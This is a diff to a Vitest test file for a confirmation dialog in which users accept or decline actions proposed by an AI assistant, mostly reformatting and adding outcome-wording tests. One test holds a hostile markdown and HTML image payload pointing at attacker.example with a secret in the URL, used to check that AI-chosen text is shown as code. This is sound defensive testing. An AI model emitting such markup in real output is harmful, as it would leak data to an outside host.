@@ -2,21 +2,37 @@ import {act, cleanup, fireEvent, render, screen, within} from '@testing-library/
 import React from 'react';
 import {afterEach, beforeEach, describe, expect, it, vi} from 'vitest';
 
+import {BASE, deferred, detail, fakeServer, ID} from './fake_server';
+
 import {ConfirmationModal} from '../src/components/confirmation_modal';
 import {ConfirmationStore} from '../src/confirmation_store';
 
-import {BASE, deferred, detail, fakeServer, ID} from './fake_server';
-
 const files = [
     {
-        index: 0, name: 'chart.png', size: 1234, size_text: '1.2 KiB', type: 'PNG image', mismatch: '',
-        origin: 'attachment chart.png from http://mm/acme/pl/p0', origin_text: 'A copy of the attachment chart.png',
-        origin_url: 'http://mm/acme/pl/p0', sha256: 'a1b2c3d4e5f6', preview: '',
+        index: 0,
+        name: 'chart.png',
+        size: 1234,
+        size_text: '1.2 KiB',
+        type: 'PNG image',
+        mismatch: '',
+        origin: 'attachment chart.png from http://mm/acme/pl/p0',
+        origin_text: 'A copy of the attachment chart.png',
+        origin_url: 'http://mm/acme/pl/p0',
+        sha256: 'a1b2c3d4e5f6',
+        preview: '',
         thumbnail_url: `${BASE}/${ID}/files/0/thumbnail`,
     },
     {
-        index: 1, name: 'notes.txt', size: 20, size_text: '20 B', type: 'Text', mismatch: 'Named .txt but holds a PDF document',
-        origin: 'written by the model', origin_text: 'Written by the AI', sha256: '0f0f0f0f0f0f', preview: 'line one\nline two',
+        index: 1,
+        name: 'notes.txt',
+        size: 20,
+        size_text: '20 B',
+        type: 'Text',
+        mismatch: 'Named .txt but holds a PDF document',
+        origin: 'written by the model',
+        origin_text: 'Written by the AI',
+        sha256: '0f0f0f0f0f0f',
+        preview: 'line one\nline two',
         thumbnail_url: '',
     },
 ];
@@ -79,15 +95,15 @@ describe('ConfirmationModal', () => {
         expect(items[1].textContent).toContain('Written by the AI.');
         expect(dialog.textContent).not.toContain('from written by the model');
         expect(items[0].textContent).toContain('SHA-256 a1b2c3d4e5f6');
-        expect(within(items[0]).getByRole('img', {name: 'Preview of chart.png'}).getAttribute('src'))
-            .toBe(`/plugins/mcp-server/api/v1/confirmations/${ID}/files/0/thumbnail`);
+        expect(within(items[0]).getByRole('img', {name: 'Preview of chart.png'}).getAttribute('src')).
+            toBe(`/plugins/mcp-server/api/v1/confirmations/${ID}/files/0/thumbnail`);
         expect(items[1].textContent).toContain('20 B · Text');
         expect(items[1].textContent).toContain('Named .txt but holds a PDF document');
         expect(within(items[1]).queryByRole('img')).toBeNull();
         expect(items[1].querySelector('pre')!.textContent).toBe('line one\nline two');
 
-        expect(within(dialog).getByRole('link', {name: 'Open in a page'}).getAttribute('href'))
-            .toBe(`/plugins/mcp-server/confirm/${ID}`);
+        expect(within(dialog).getByRole('link', {name: 'Open in a page'}).getAttribute('href')).
+            toBe(`/plugins/mcp-server/confirm/${ID}`);
     });
 
     it('shows the raw markdown in a pre when the host provides no markdown renderer', async () => {
@@ -101,7 +117,11 @@ describe('ConfirmationModal', () => {
     it('shows the value the model chose in the heading as code marked as the AI\'s, never as markup', async () => {
         const hostile = '![a](https://attacker.example/p.png?d=SECRET) <img src="https://attacker.example/i.png">';
         fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({
-            action: 'create_channel', heading: `Create the public channel “${hostile}” in Acme`, message: '', files: [], notes: [],
+            action: 'create_channel',
+            heading: `Create the public channel “${hostile}” in Acme`,
+            message: '',
+            files: [],
+            notes: [],
             heading_line: [{text: 'Create the public channel '}, {text: hostile, ai: true}, {text: ' in Acme'}],
         })}});
         openModal();
@@ -157,10 +177,16 @@ describe('ConfirmationModal', () => {
 
     it('shows a change the server words (a delete) with its lede, facts, the post it is about, what it affects and its accept label', async () => {
         fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({
-            action: 'delete', heading: 'Delete your post in Town Square, Acme with its 2 replies', message: '', previous: 'the doomed post', files: [],
+            action: 'delete',
+            heading: 'Delete your post in Town Square, Acme with its 2 replies',
+            message: '',
+            previous: 'the doomed post',
+            files: [],
             lede: 'It asks to delete your post for everyone in the channel.',
             facts: [{label: 'Replies', value: '2 replies, by anyone, are deleted with it'}, {label: 'Purpose', value: 'model words', ai: true}],
-            previous_caption: 'The post that is deleted', notes_heading: 'Who it affects', notes: ['Everyone in Town Square stops seeing the post.'],
+            previous_caption: 'The post that is deleted',
+            notes_heading: 'Who it affects',
+            notes: ['Everyone in Town Square stops seeing the post.'],
             accept_label: 'Accept and delete',
         })}});
         openModal();
@@ -229,7 +255,7 @@ describe('ConfirmationModal', () => {
     it('Decline posts to the decline endpoint and says that nothing was posted', async () => {
         const {calls} = fakeServer({
             [`GET ${BASE}/${ID}`]: {body: detail()},
-            [`POST ${BASE}/${ID}/decline`]: {body: detail({state: 'declined'})},
+            [`POST ${BASE}/${ID}/decline`]: {body: detail({state: 'declined', outcome_text: 'Declined: nothing was posted.'})},
         });
         openModal();
 
@@ -240,8 +266,8 @@ describe('ConfirmationModal', () => {
         expect(screen.getByRole('button', {name: 'Close'})).toBeTruthy();
     });
 
-    it('says that the assistant withdrew a write and offers no Accept, even from a server that does not word it', async () => {
-        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({state: 'withdrawn', outcome_text: ''})}});
+    it('says in the server\'s words that the assistant withdrew a write, and offers no Accept', async () => {
+        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({state: 'withdrawn', outcome_text: 'Withdrawn: the AI assistant took this back before you answered; nothing was posted.'})}});
         openModal();
 
         expect((await screen.findByRole('status')).textContent).toBe('Withdrawn: the AI assistant took this back before you answered; nothing was posted.');
@@ -249,11 +275,37 @@ describe('ConfirmationModal', () => {
         expect(screen.getByRole('button', {name: 'Close'})).toBeTruthy();
     });
 
+    it('names the state in a word, and adds no sentence of its own, when the server sends no outcome text', async () => {
+        fakeServer({
+            [`GET ${BASE}/${ID}`]: {body: detail()},
+            [`POST ${BASE}/${ID}/accept`]: {body: detail({state: 'failed',
+                outcome_text: '',
+                outcome: 'Nothing was sent: the channel is archived.',
+                outcome_reason: 'The channel is archived.'})},
+        });
+        openModal();
+
+        fireEvent.click(await screen.findByRole('button', {name: 'Accept'}));
+
+        expect((await screen.findByRole('status')).textContent).toBe('Failed. The channel is archived.');
+        expect(screen.getByRole('dialog').textContent).not.toContain('nothing was posted');
+    });
+
+    it('names a withdrawn write in a word when the server sends no outcome text', async () => {
+        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({state: 'withdrawn', outcome_text: ''})}});
+        openModal();
+
+        expect((await screen.findByRole('status')).textContent).toBe('Withdrawn.');
+        expect(screen.queryByRole('button', {name: 'Accept'})).toBeNull();
+    });
+
     it('says in a sentence that the post failed, and why', async () => {
         fakeServer({
             [`GET ${BASE}/${ID}`]: {body: detail()},
-            [`POST ${BASE}/${ID}/accept`]: {body: detail({state: 'failed', outcome: 'Nothing was sent: You can no longer post in ~town-square.',
-                outcome_text: 'Failed: nothing was posted.', outcome_reason: 'You can no longer post in ~town-square.'})},
+            [`POST ${BASE}/${ID}/accept`]: {body: detail({state: 'failed',
+                outcome: 'Nothing was sent: You can no longer post in ~town-square.',
+                outcome_text: 'Failed: nothing was posted.',
+                outcome_reason: 'You can no longer post in ~town-square.'})},
         });
         openModal();
 
@@ -331,7 +383,7 @@ describe('ConfirmationModal', () => {
     });
 
     it('shows no answer buttons for a confirmation already being posted', async () => {
-        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({state: 'executing'})}});
+        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({state: 'executing', outcome_text: 'Accepted: it is being posted now.'})}});
         openModal();
 
         expect((await screen.findByRole('status')).textContent).toContain('being posted');
